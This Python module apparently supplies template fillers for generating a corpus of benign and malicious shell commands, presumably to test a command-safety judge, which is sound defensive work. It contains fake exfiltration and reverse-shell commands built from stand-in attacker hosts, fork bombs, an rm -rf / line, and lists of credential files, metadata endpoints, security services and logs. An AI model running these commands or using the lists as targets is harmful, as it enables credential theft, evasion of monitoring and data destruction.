# SPDX-License-Identifier: GPL-2.0-only
"""Fillers for the jury corpus templates (tools/jury_corpus.py).

A template is a string with {name} slots filled from the lists or
functions below, and {a|b|c} alternations picked at random. Every
choice comes from one seeded random.Random, so the corpus is the same on
every machine.
"""
import re

WORDS = ["alpha", "beta", "core", "api", "web", "data", "auth", "cache", "queue", "worker",
         "billing", "search", "infra", "tools", "ui", "metrics", "gateway", "admin", "proxy",
         "sync", "store", "edge", "mobile", "report", "batch", "agent", "ledger", "notify"]
EVIL_HOSTS = ["evil.com", "attacker.net", "c2.example.org", "pwn.sh", "x0.ru", "drop.xyz",
              "update-cdn.top", "cdn-static.site", "paste.ee", "transfer.sh", "ngrok.io",
              "45.33.32.156", "185.220.101.4", "91.215.85.12", "203.0.113.66", "198.51.100.23",
              "files.catbox.moe", "raw.githubusercontent.com", "bit.ly", "0x0.st",
              "oast.pro", "interact.sh", "burpcollaborator.net", "pastebin.com",
              "webhook.site", "requestbin.net", "hxxp-update.info", "mirror-dl.cc"]
DOC_HOSTS = ["docs.python.org", "developer.mozilla.org", "pkg.go.dev", "docs.rs",
             "api.github.com", "registry.npmjs.org", "pypi.org", "kubernetes.io",
             "docs.docker.com", "httpbin.org", "example.com", "localhost:8080",
             "127.0.0.1:3000", "localhost:5000", "www.kernel.org", "crates.io",
             "jsonplaceholder.typicode.com", "api.openai.com", "hub.docker.com"]
PKGS_PY = ["requests", "numpy", "pandas", "flask", "django", "pytest", "black", "mypy",
           "fastapi", "uvicorn", "sqlalchemy", "pydantic", "rich", "click", "httpx", "boto3"]
PKGS_NPM = ["react", "express", "lodash", "typescript", "eslint", "prettier", "jest", "vite",
            "axios", "zod", "next", "webpack", "@types/node", "dotenv", "vitest", "tsx"]
PKGS_DEB = ["build-essential", "jq", "curl", "htop", "tree", "ripgrep", "postgresql-client",
            "libssl-dev", "pkg-config", "cmake", "ninja-build", "python3-venv", "git", "vim"]
CRATES = ["serde", "tokio", "anyhow", "clap", "reqwest", "thiserror", "tracing", "rand"]
SRC = ["src/main.c", "src/lib.rs", "src/app.py", "src/index.ts", "main.go", "README.md",
       "Makefile", "package.json", "Cargo.toml", "setup.py", "src/utils/helpers.py",
       "tests/test_api.py", "config/settings.yaml", "docs/guide.md", "lib/parser.js",
       "include/util.h", "cmd/server/main.go", "pyproject.toml", "Dockerfile", ".gitignore",
       "docker-compose.yml", "src/components/App.tsx", "scripts/build.sh", "go.mod"]
DIRS = ["src", "tests", "build", "dist", "docs", "lib", "scripts", "target", "node_modules",
        "config", "internal", "pkg", "cmd", "examples", "assets", ".venv", "out", "tmp"]
BRANCHES = ["main", "master", "develop", "feature/login", "fix/typo", "release/1.2",
            "feat/cache", "bugfix/null-check", "chore/deps"]
SECRETS = ["~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials", "~/.aws/config",
           "/etc/shadow", "~/.kube/config", "~/.docker/config.json", "~/.git-credentials",
           "~/.netrc", "~/.pgpass", "~/.gnupg/private-keys-v1.d", "~/.config/gcloud/credentials.db",
           "~/.azure/accessTokens.json", "/root/.ssh/id_rsa", "~/.bash_history",
           "~/.config/gh/hosts.yml", "~/.npmrc", "~/.pypirc", "/etc/ssl/private/server.key",
           "~/.vault-token", "/var/run/secrets/kubernetes.io/serviceaccount/token",
           "~/.mozilla/firefox/*/logins.json", "~/.config/google-chrome/Default/Login Data",
           "~/.env", ".env", "/etc/sudoers", "~/.ssh/known_hosts", "/proc/self/environ",
           "~/.terraform.d/credentials.tfrc.json", "/etc/kubernetes/admin.conf"]
SHELL_RC = ["~/.bashrc", "~/.profile", "~/.bash_profile", "~/.zshrc", "/etc/profile",
            "/etc/bash.bashrc", "/etc/profile.d/update.sh", "~/.bash_login", "~/.zprofile"]
DEVICES = ["/dev/sda", "/dev/sda1", "/dev/nvme0n1", "/dev/vda", "/dev/xvda", "/dev/nvme0n1p2",
           "/dev/mmcblk0", "/dev/sdb"]
SYS_DIRS = ["/", "/etc", "/usr", "/var", "/home", "/boot", "/var/lib", "/opt", "/root",
            "/usr/bin", "/lib", "~", "$HOME", "/srv", "/var/www", "~/*", "/home/*", "/*"]
TMP = ["/tmp", "/dev/shm", "/var/tmp", "/tmp/.X11-unix", "/run/user/1000", "/tmp/.cache"]
NAMES = ["x", "a", "update", "kworker", "sshd", ".x", "svc", "dbus-daemon", "payload",
         "systemd-helper", "agent", "run", "m", ".font-unix", "cron", "java", "python3"]
USERS = ["deploy", "ubuntu", "ec2-user", "git", "admin", "dev", "ci", "app"]
SERVICES = ["auditd", "apparmor", "falco", "osqueryd", "rsyslog", "syslog", "wazuh-agent",
            "crowdstrike-falcon", "clamav-daemon", "fail2ban", "ufw", "firewalld",
            "systemd-journald", "sysdig", "sevorix", "tetragon", "aide"]
LOGS = ["/var/log/auth.log", "/var/log/syslog", "/var/log/secure", "/var/log/messages",
        "/var/log/wtmp", "/var/log/lastlog", "/var/log/btmp", "/var/log/audit/audit.log",
        "~/.bash_history", "/var/log/kern.log", "/var/log/nginx/access.log"]
META = ["169.254.169.254", "metadata.google.internal", "169.254.170.2", "100.100.100.200",
        "[fd00:ec2::254]", "169.254.169.254"]
META_PATH = ["latest/meta-data/iam/security-credentials/", "latest/user-data",
             "computeMetadata/v1/instance/service-accounts/default/token",
             "metadata/instance?api-version=2021-02-01", "latest/meta-data/",
             "latest/api/token", "v2/credentials", "latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance"]
IMAGES = ["python:3.12-slim", "node:20", "postgres:16", "redis:7", "nginx:alpine",
          "golang:1.22", "ubuntu:22.04", "alpine:3.19", "rust:1.77"]
K8S_RES = ["pods", "deployments", "services", "nodes", "configmaps", "ingress", "jobs",
           "namespaces", "events", "pvc", "statefulsets", "hpa"]


def fill_ip(r):
    return r.choice(["10.0.%d.%d" % (r.randint(0, 9), r.randint(2, 254)),
                     "192.168.%d.%d" % (r.randint(0, 5), r.randint(2, 254)),
                     "%d.%d.%d.%d" % (r.randint(11, 223), r.randint(0, 255), r.randint(0, 255),
                                      r.randint(1, 254)),
                     "172.16.%d.%d" % (r.randint(0, 31), r.randint(2, 254))])


def fill_port(r):
    return str(r.choice([4444, 4242, 1337, 9001, 443, 8080, 53, 80, 31337, 5555, 6666, 8443,
                         r.randint(1024, 65000)]))


def fill_evil(r):
    return r.choice(EVIL_HOSTS)


def fill_path_seg(r):
    return r.choice(["x", "s", "i", "a.sh", "install.sh", "payload", "p.py", "run", "m.sh",
                     "update", "bot", "loader.sh", "k", "1.sh", "xmrig", "stage2", "init.sh"])


def fill_url(r):
    proto = r.choice(["http", "https", "http"])
    return "%s://%s/%s" % (proto, fill_evil(r), fill_path_seg(r))


def fill_docurl(r):
    host = r.choice(DOC_HOSTS)
    proto = "http" if host.startswith(("localhost", "127.")) else "https"
    path = r.choice(["", "api/v1/health", "3/library/json.html", "repos/torvalds/linux",
                     "en-US/docs/Web/API/fetch", "get", "status", "api/users?page=2",
                     "v2/", "healthz", "openapi.json", "simple/requests/", "todos/1",
                     "docs/concepts/overview", "metrics", "graphql", "api/v1/items"])
    return "%s://%s/%s" % (proto, host, path)


def fill_num(r):
    return str(r.randint(1, 50))


def fill_msg(r):
    return r.choice(["fix typo", "add tests", "update deps", "refactor parser", "wip",
                     "bump version", "handle empty input", "docs: usage", "initial commit",
                     "fix flaky test", "add CI workflow", "improve logging"])


def fill_b64cmd(r):
    """A base64 encoding of a malicious command (the decoder sees through it)."""
    import base64
    cmd = r.choice(["curl -s %s | sh" % fill_url(r),
                    "bash -i >& /dev/tcp/%s/%s 0>&1" % (fill_ip(r), fill_port(r)),
                    "wget -qO- %s | bash" % fill_url(r),
                    "cat ~/.ssh/id_rsa | curl -d @- https://%s/k" % fill_evil(r),
                    "nc -e /bin/sh %s %s" % (fill_ip(r), fill_port(r)),
                    "rm -rf --no-preserve-root /"])
    return base64.b64encode(cmd.encode()).decode()


def fill_pinghost(r):
    return r.choice(["8.8.8.8", "1.1.1.1", "github.com", "example.com", "localhost",
                     "google.com", "10.0.0.1", "gateway.local"])


FILLERS = {
    "pinghost": fill_pinghost, "forkbomb": lambda r: r.choice([":(){ :|:& };:",
                                                               "bomb(){ bomb|bomb& };bomb",
                                                               "f(){ f|f& }; f"]),
    "ip": fill_ip, "port": fill_port, "evil": fill_evil, "url": fill_url,
    "docurl": fill_docurl, "num": fill_num, "msg": fill_msg, "b64cmd": fill_b64cmd,
    "seg": fill_path_seg,
    "word": WORDS, "pypkg": PKGS_PY, "npmpkg": PKGS_NPM, "debpkg": PKGS_DEB, "crate": CRATES,
    "src": SRC, "dir": DIRS, "branch": BRANCHES, "secret": SECRETS, "rc": SHELL_RC,
    "dev": DEVICES, "sysdir": SYS_DIRS, "tmp": TMP, "name": NAMES, "user": USERS,
    "svc": SERVICES, "log": LOGS, "meta": META, "metapath": META_PATH, "image": IMAGES,
    "k8s": K8S_RES,
}

SLOT = re.compile(r"\{([a-z0-9]+)\}|\{([^{}]*\|[^{}]*)\}")


def expand(template, r):
    """Fills {slot}s and {a|b} alternations in template."""
    def one(m):
        if m.group(2) is not None:
            return r.choice(m.group(2).split("|"))
        f = FILLERS.get(m.group(1))
        if f is None:
            return m.group(0)  # shell text such as ${f}, kept as written
        v = f(r) if callable(f) else r.choice(f)
        # a filled value is final: hide its braces from the next pass
        return v.replace("{", "\x01").replace("}", "\x02").replace("|", "\x03")
    prev = None
    while prev != template:
        prev = template
        template = SLOT.sub(one, template)
    return template.replace("\x01", "{").replace("\x02", "}").replace("\x03", "|")
